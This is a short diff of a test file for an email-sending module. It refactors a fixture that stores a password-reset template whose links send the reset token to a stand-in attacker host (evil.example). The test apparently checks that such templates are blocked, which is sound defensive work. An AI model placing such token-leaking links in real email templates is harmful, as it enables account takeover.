@@ -279,10 +279,14 @@ describe('sending', () => {
     await db
       .insertInto('email_template_versions')
       .values({
-        ...{ template: 'password-reset', version: version + 1, active: true, subject: 'Old' },
+        template: 'password-reset',
+        version: version + 1,
+        active: true,
+        subject: 'Old',
         html: '<a href="https://evil.example/?u={{resetLink}}">Choose a new password</a>',
         text: 'Go to https://evil.example/#{{resetLink}} now',
-        ...{ saved_by: 1, saved_by_name: 'Someone' },
+        saved_by: 1,
+        saved_by_name: 'Someone',
       })
       .execute();
     expect((await find(stage.admin, 'password-reset')).notSent).toMatch(/^HTML: /);
